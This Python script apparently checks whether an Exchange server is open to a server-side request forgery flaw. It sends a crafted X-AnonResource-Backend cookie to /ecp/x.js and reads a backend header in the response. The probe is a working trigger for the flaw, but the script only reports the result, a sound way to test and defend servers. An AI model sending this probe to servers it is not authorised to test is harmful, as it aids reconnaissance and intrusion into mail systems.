#!/usr/bin/env python3
"""Benign proof of concept for EMB-2021-0001 (embargoed).

Checks whether a test server answers the SSRF probe the way an unpatched
Exchange front end would.  It sends one harmless request to the host named
on the command line and never writes anything on the server.
"""
import argparse
import sys
import urllib.request

PROBE_PATH = "/ecp/x.js"
BACKEND_COOKIE = "X-AnonResource-Backend"
USER_AGENT = "Mozilla/5.0 (compatible; emb-check/1.0)"
TIMEOUT_SECONDS = 10


def build_request(target, backend):
    url = "https://%s%s" % (target, PROBE_PATH)
    headers = {
        "User-Agent": USER_AGENT,
        "Cookie": "%s=%s/ecp/default.flt?~3" % (BACKEND_COOKIE, backend),
    }
    return urllib.request.Request(url, headers=headers, method="GET")


def looks_vulnerable(status, headers):
    server = headers.get("X-CalculatedBETarget", "")
    return status == 200 and server.lower().startswith("localhost")


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("target", help="host name of the test server")
    parser.add_argument("--backend", default="localhost~1942062522")
    args = parser.parse_args(argv)
    request = build_request(args.target, args.backend)
    try:
        with urllib.request.urlopen(request, timeout=TIMEOUT_SECONDS) as resp:
            vulnerable = looks_vulnerable(resp.status, resp.headers)
    except OSError as exc:
        print("probe failed: %s" % exc, file=sys.stderr)
        return 2
    print("VULNERABLE" if vulnerable else "not vulnerable")
    return 0 if not vulnerable else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
